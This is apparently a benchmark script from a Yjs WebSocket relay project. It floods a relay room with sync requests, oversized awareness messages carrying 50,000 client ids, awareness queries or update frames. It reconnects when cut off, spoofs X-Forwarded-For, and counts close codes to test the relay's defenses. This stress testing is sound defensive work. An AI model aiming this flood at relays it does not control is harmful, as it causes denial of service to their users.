/**
 * One attacker, in its own process so its work does not skew the probe's
 * timing: it floods a relay through the room URL it is given, for as long as it
 * is told, reconnecting whenever it is cut off (as a determined attacker would).
 * Prints one JSON line: how many connections it opened and how many were closed
 * on it, by close code.
 *
 *   tsx bench/flood-attacker.ts <mode> <room url> <duration ms> [connections]
 *   modes: step1 | awareness-ids | query | frames
 */
import { WebSocket } from 'ws';
import * as Y from 'yjs';

import { encode, encodeAwarenessUpdate } from '../lib/protocol';

const MODES = ['step1', 'awareness-ids', 'query', 'frames'] as const;
type Mode = (typeof MODES)[number];

const [modeArg, url, durationArg, connectionsArg] = process.argv.slice(2);
if (!MODES.includes(modeArg as Mode) || !url || !durationArg) {
  console.error(`usage: tsx bench/flood-attacker.ts <${MODES.join('|')}> <room url> <duration ms> [connections]`);
  process.exit(2);
}
const mode = modeArg as Mode;
const endsAt = performance.now() + Number(durationArg);
const connections = Number(connectionsArg ?? '4');

const EMPTY_STATE_VECTOR = Y.encodeStateVector(new Y.Doc());
const STATE = { user: { name: 'Flood', color: '#000000' } };
let nextClientId = 1_000_000;
let textClock = 0;
const textDoc = new Y.Doc();
const pendingUpdates: Uint8Array[] = [];
textDoc.on('update', (update: Uint8Array) => pendingUpdates.push(update));

/** The next frame the attack sends. */
function nextFrame(): Uint8Array {
  switch (mode) {
    case 'step1':
      return encode({ type: 'sync-step-1', stateVector: EMPTY_STATE_VECTOR });
    case 'awareness-ids': {
      // 50,000 fresh client ids per message, as the attack did.
      const entries = Array.from({ length: 50_000 }, () => ({ clientId: nextClientId++, clock: 1, state: STATE }));
      return encode({ type: 'awareness', update: encodeAwarenessUpdate(entries) });
    }
    case 'query':
      return encode({ type: 'query-awareness' });
    case 'frames': {
      textDoc.getText('t').insert(0, String(textClock++ % 10));
      return encode({ type: 'update', update: pendingUpdates.shift()! });
    }
  }
}

const stats = { opened: 0, refusedUpgrades: 0, closes: {} as Record<string, number>, framesSent: 0 };

// Frames built ahead: the awareness attack's messages are large, and building them is the attacker's cost, not the relay's.
const prepared = mode === 'awareness-ids' ? [nextFrame(), nextFrame()] : [];

function attackOnce(): Promise<void> {
  return new Promise((resolve) => {
    // One client, at one address (the relay trusts the loopback proxy's X-Forwarded-For), on several sockets.
    const socket = new WebSocket(url!, { maxPayload: 256 * 1024 * 1024, headers: { 'X-Forwarded-For': '203.0.113.66' } });
    // The attack ends on time whether or not the relay has cut this socket off.
    const stop = setTimeout(() => socket.terminate(), Math.max(0, endsAt - performance.now()));
    let isOpen = false;
    const pump = (): void => {
      if (!isOpen || performance.now() > endsAt || socket.readyState !== WebSocket.OPEN) return;
      // Keep the socket's own buffer shallow, so the flood is as fast as the relay reads, not the attacker's memory.
      if (socket.bufferedAmount < 1024 * 1024) {
        socket.send(prepared.length > 0 ? prepared[stats.framesSent % prepared.length]! : nextFrame());
        stats.framesSent += 1;
      }
      setImmediate(pump);
    };
    socket.on('open', () => {
      isOpen = true;
      stats.opened += 1;
      pump();
    });
    socket.on('unexpected-response', () => {
      stats.refusedUpgrades += 1;
      socket.terminate();
    });
    socket.on('close', (code) => {
      clearTimeout(stop);
      if (isOpen && performance.now() < endsAt) stats.closes[code] = (stats.closes[code] ?? 0) + 1;
      resolve();
    });
    socket.on('error', () => undefined);
    // Sync replies are read (and dropped) unless the attack is to make the relay buffer them.
    socket.on('message', () => undefined);
  });
}

async function attacker(): Promise<void> {
  while (performance.now() < endsAt) {
    await attackOnce();
    // A refused upgrade comes back at once: do not spin on 429s faster than a real client could.
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
}

await Promise.all(Array.from({ length: connections }, () => attacker()));
console.log(JSON.stringify(stats));
process.exit(0);
